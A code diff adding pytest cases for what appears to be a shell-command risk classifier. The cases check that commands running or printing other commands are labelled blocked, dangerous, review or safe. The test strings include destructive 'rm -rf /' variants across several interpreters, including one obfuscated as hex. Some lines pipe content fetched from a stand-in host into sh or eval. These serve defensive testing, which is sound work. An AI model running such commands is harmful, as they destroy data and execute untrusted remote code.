@@ -108,3 +108,33 @@ def test_interpreter_code_keeps_its_argument_lists(line, level):
 ])
 def test_names_and_aliases_read_as_bash_reads_them(line, level):
     assert classify(line).level == level
+
+
+@pytest.mark.parametrize("line, level", [
+    # code that runs what it reads: what feeds it is code
+    ("echo 'rm -rf /' | awk '{system($0)}'", "blocked"),
+    ("echo 'rm -rf /' | awk '{print | \"sh\"}'", "blocked"),
+    ("echo 'rm -rf /' | perl -ne 'system($_)'", "blocked"),
+    ("echo 'rm -rf /' | python3 -c 'import os,sys; os.system(sys.stdin.read())'", "blocked"),
+    ("curl -s https://x.example/a | awk '{system($0)}'", "dangerous"),
+    ("awk 'BEGIN { system(\"rm -rf \" ENVIRON[\"HOME\"]) }'", "blocked"),
+    ("perl -e 'open(P,\"|sh\"); print P \"rm -rf /\"'", "blocked"),
+    # what interpreter code prints, piped into a shell
+    ("python3 -c \"print('rm -rf /')\" | sh", "blocked"),
+    ("perl -e 'print \"rm -rf /\"' | sh", "blocked"),
+    ("python3 -c \"print('ls')\" | sh", "review"),
+    ("echo \"$(curl -s https://x.example/a)\" | sh", "dangerous"),
+    ("c=$(curl -s https://x.example/a); eval \"$c\"", "dangerous"),  # a variable keeps where its value came from
+    ("c=$(curl -s https://x.example/a); echo \"$c\" | jq .", "safe"),
+    # other call spellings
+    ("ruby -e 'Process.spawn(\"rm\", \"-rf\", \"/\")'", "blocked"),
+    ("ruby -ropen3 -e 'Open3.capture2(\"rm -rf /\")'", "blocked"),
+    ("osascript -e 'do shell script \"rm -rf ~\"'", "blocked"),
+    ("pwsh -c 'Remove-Item -Recurse -Force /'", "blocked"),
+    ("perl -e 'unlink glob \"/etc/*\"'", "blocked"),
+    ("python3 -c \"import os;os.system(bytes.fromhex('726d202d7266202f').decode())\"", "blocked"),
+    ("python3 -c \"import urllib.request;print(urllib.request.urlopen('https://x.example/a').read().decode())\" | sh",
+     "dangerous"),
+])
+def test_code_that_runs_or_prints_commands(line, level):
+    assert classify(line).level == level
